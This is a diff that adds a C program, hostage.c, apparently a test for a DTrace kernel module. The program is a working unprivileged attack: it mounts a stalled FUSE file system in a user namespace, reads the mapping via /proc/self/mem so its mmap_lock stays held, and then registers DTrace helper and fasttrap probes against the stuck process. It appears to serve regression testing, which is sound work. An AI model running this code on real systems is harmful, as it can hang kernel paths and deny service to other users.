@@ -1,0 +1,313 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * hostage.c - a process that keeps its own address space locked, with the rights of an ordinary user:
+ * a thread reads through /proc/self/mem from a mapping of a FUSE file whose server does not answer,
+ * and so holds mmap_lock for reading; another waits to write to it, and all others wait behind that.
+ *
+ *	attack-hostage hold DIRECTORY		mount the file system there (in a namespace of its own),
+ *						take the hostage, say "hostage PID SERVER" and "held",
+ *						register with the helper device; the lock is free when
+ *						the server ends
+ *	attack-hostage register PID		register a pid probe in that process, through the other
+ *						device
+ *	attack-hostage fork N			fork N children, one after the other; say the milliseconds
+ */
+#define _GNU_SOURCE
+#include <err.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+#include <linux/fuse.h>
+#include <dtrace/fasttrap.h>
+#include <dtrace/helper.h>
+#include <dtrace/ioctl.h>
+#include "../lib/dof.h"
+
+#define FILE_NODE	2
+#define FILE_SIZE	(1 << 20)
+
+static const char *directory;
+
+/* ---- the file system ---- */
+
+static void put(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY);
+
+	if (fd == -1 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
+		err(3, "%s", path);
+	close(fd);
+}
+
+/* Root of a user namespace of our own may mount FUSE file systems. The descriptor of its server. */
+static int fs_mount(void)
+{
+	unsigned int uid = getuid(), gid = getgid();
+	char text[128];
+	int fd;
+
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
+		err(3, "unshare");
+	put("/proc/self/setgroups", "deny");
+	snprintf(text, sizeof(text), "%u %u 1", uid, uid);
+	put("/proc/self/uid_map", text);
+	snprintf(text, sizeof(text), "%u %u 1", gid, gid);
+	put("/proc/self/gid_map", text);
+	fd = open("/dev/fuse", O_RDWR);
+	if (fd == -1)
+		err(3, "/dev/fuse");
+	snprintf(text, sizeof(text), "fd=%d,rootmode=40000,user_id=%u,group_id=%u", fd, uid, gid);
+	if (mount("hostage", directory, "fuse", MS_NOSUID | MS_NODEV, text))
+		err(3, "mount");
+	return fd;
+}
+
+static void answer(int fd, uint64_t unique, const void *data, size_t size)
+{
+	struct {
+		struct fuse_out_header head;
+		char data[512];
+	} out = { .head = { .len = (uint32_t)(sizeof(out.head) + size), .unique = unique } };
+
+	memcpy(out.data, data, size);
+	if (write(fd, &out, out.head.len) != (ssize_t)out.head.len)
+		warn("fuse");
+}
+
+static struct fuse_attr attributes(uint64_t node)
+{
+	return (struct fuse_attr){ .ino = node, .size = node == FILE_NODE ? FILE_SIZE : 0,
+				   .mode = node == FILE_NODE ? 0100644 : 040755, .nlink = 1 };
+}
+
+/* Everything is answered but reading; that is told instead. */
+static void fs_serve(int fd, int told)
+{
+	static char request[1 << 18];
+	const struct fuse_in_header *in = (const void *)request;
+
+	while (read(fd, request, sizeof(request)) > 0)
+		switch (in->opcode) {
+		case FUSE_INIT: {
+			struct fuse_init_out out = { .major = 7, .minor = 31, .max_write = 4096 };
+
+			answer(fd, in->unique, &out, sizeof(out));
+			break;
+		}
+		case FUSE_LOOKUP: {
+			struct fuse_entry_out out = { .nodeid = FILE_NODE, .entry_valid = 1000,
+						      .attr_valid = 1000,
+						      .attr = attributes(FILE_NODE) };
+
+			answer(fd, in->unique, &out, sizeof(out));
+			break;
+		}
+		case FUSE_GETATTR: {
+			struct fuse_attr_out out = { .attr_valid = 1000,
+						     .attr = attributes(in->nodeid) };
+
+			answer(fd, in->unique, &out, sizeof(out));
+			break;
+		}
+		case FUSE_OPEN: {
+			struct fuse_open_out out = { .fh = 1 };
+
+			answer(fd, in->unique, &out, sizeof(out));
+			break;
+		}
+		case FUSE_READ:
+			if (write(told, "r", 1) != 1)
+				exit(0);
+			break;
+		case FUSE_FORGET:
+		case FUSE_BATCH_FORGET:
+		case FUSE_INTERRUPT:
+			break;
+		default: {
+			struct fuse_out_header out = { .len = sizeof(out), .error = -ENOSYS,
+						       .unique = in->unique };
+
+			if (write(fd, &out, sizeof(out)) != sizeof(out))
+				warn("fuse");
+		}
+		}
+	exit(0);
+}
+
+/* ---- the hostage ---- */
+
+static char *mapped;
+static volatile pid_t writer;
+static volatile int locked;
+
+static void *read_mapping(void *arg)
+{
+	int fd = open("/proc/self/mem", O_RDONLY);
+	char byte;
+
+	(void)arg;
+	if (pread(fd, &byte, 1, (off_t)(uintptr_t)mapped) != 1)
+		pthread_exit(NULL);
+	return NULL;
+}
+
+static void *write_mappings(void *arg)
+{
+	(void)arg;
+	writer = (pid_t)syscall(SYS_gettid);
+	while (!locked)
+		usleep(1000);
+	mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	return NULL;
+}
+
+/* The state of a thread of ours, as a letter. */
+static char state_of(pid_t tid)
+{
+	char path[64], text[256] = "", *end;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", tid);
+	fd = open(path, O_RDONLY);
+	if (fd == -1 || read(fd, text, sizeof(text) - 1) <= 0)
+		return 0;
+	close(fd);
+	end = strrchr(text, ')');
+	return end ? end[2] : 0;
+}
+
+/* DOF of one probe at a site of ours. */
+static struct dof_bytes probe_dof(const char *provider, uint64_t site)
+{
+	enum { PRSITES = DOF_OTHERS, PROVIDER, NSECTIONS };
+	struct {
+		dof_prsites_t head;
+		dof_siteaddr_t address;
+		dof_site_t site;
+	} sites = { { .ps_nsites = 1 }, { .sa_addr = (int64_t)site },
+		    { .st_func = DOF_STRIDX_NONE } };
+	struct dof_bytes strings = { 0 }, file;
+	dof_probe_t probe = { 0 };
+	dof_provider_t pv;
+
+	dof_string(&strings, "");
+	probe.dofpr_func = dof_string(&strings, "main");
+	probe.dofpr_name = dof_string(&strings, "entry");
+	pv = dof_provider(dof_string(&strings, provider));
+	pv.dofpv_prsites = PRSITES;
+	dof_begin(&file, NSECTIONS);
+	dof_section(&file, DOF_STRTAB, DOF_SECT_STRTAB, 8, 0, strings.data, strings.size);
+	dof_section(&file, DOF_PROBES, DOF_SECT_PROBES, 8, sizeof(probe), &probe, sizeof(probe));
+	dof_section(&file, DOF_PRARGS, DOF_SECT_PRARGS, 8, 1, "", 0);
+	dof_section(&file, DOF_PROFFS, DOF_SECT_PROFFS, 8, 4, "", 0);
+	dof_section(&file, PRSITES, DOF_SECT_PRSITES, 8, 0, &sites, sizeof(sites));
+	dof_section(&file, PROVIDER, DOF_SECT_PROVIDER, 8, 0, &pv, sizeof(pv));
+	dof_end(&file, NSECTIONS, DOF_VERSION_2);
+	return file;
+}
+
+static int hold(void)
+{
+	int helper = open(DTRACE_HELPER_DEVICE, O_RDWR), told[2], fd, fuse;
+	struct dof_bytes dof = probe_dof("hostage", (uint64_t)(uintptr_t)hold);
+	char path[512], byte;
+	pthread_t thread;
+	pid_t server;
+
+	fuse = fs_mount();
+	if (pipe(told))
+		err(3, "pipe");
+	prctl(PR_SET_DUMPABLE, 1);
+	server = fork();
+	if (server == 0)
+		fs_serve(fuse, told[1]);
+	close(fuse);
+	snprintf(path, sizeof(path), "%s/file", directory);
+	fd = open(path, O_RDONLY);
+	if (fd == -1)
+		err(3, "%s", path);
+	mapped = mmap(NULL, FILE_SIZE, PROT_READ, MAP_PRIVATE, fd, 0);
+	if (mapped == MAP_FAILED)
+		err(3, "mmap");
+	printf("hostage %d %d\n", getpid(), server);
+	fflush(stdout);
+	state_of(getpid());		/* with all pages that are needed later: nothing can fault then */
+	usleep(1);
+	ioctl(helper, DTRACEHIOC_REMOVE, 1 << 30);
+	pthread_create(&thread, NULL, write_mappings, NULL);
+	pthread_create(&thread, NULL, read_mapping, NULL);
+	if (read(told[0], &byte, 1) != 1)			/* it has the lock */
+		err(3, "the server");
+	locked = 1;
+	while (!writer || state_of(writer) != 'D')
+		usleep(1000);
+	if (write(STDOUT_FILENO, "held\n", 5) != 5)
+		return 3;
+	if (ioctl(helper, DTRACEHIOC_ADD, dof.data) < 0)
+		warn("register");
+	pause();
+	return 0;
+}
+
+/* ---- others ---- */
+
+static int register_in(pid_t pid)
+{
+	struct dof_bytes dof = probe_dof("pid", 0x1000);
+	dtrace_ft_register_t reg = { .dtfr_pid = pid, .dtfr_flags = DTRACE_FT_PID,
+				     .dtfr_helper = { .dofhp_dof = (uint64_t)(uintptr_t)dof.data } };
+	int fd = open(DTRACE_FASTTRAP_DEVICE, O_RDWR);
+
+	if (fd == -1)
+		err(3, "the device");
+	puts("go");
+	fflush(stdout);
+	if (ioctl(fd, DTRACEFTIOC_REGISTER, &reg) < 0)
+		puts(strerror(errno));
+	return 0;
+}
+
+static int fork_many(int n)
+{
+	struct timespec from, to;
+
+	clock_gettime(CLOCK_MONOTONIC, &from);
+	while (n--) {
+		pid_t pid = fork();
+
+		if (pid == 0)
+			_exit(0);
+		waitpid(pid, NULL, 0);
+	}
+	clock_gettime(CLOCK_MONOTONIC, &to);
+	printf("%ld\n", (to.tv_sec - from.tv_sec) * 1000 + (to.tv_nsec - from.tv_nsec) / 1000000);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *verb = argc == 3 ? argv[1] : "";
+
+	if (!strcmp(verb, "hold")) {
+		directory = argv[2];
+		return hold();
+	}
+	if (!strcmp(verb, "register"))
+		return register_in(atoi(argv[2]));
+	if (!strcmp(verb, "fork"))
+		return fork_many(atoi(argv[2]));
+	errx(2, "see the source");
+}
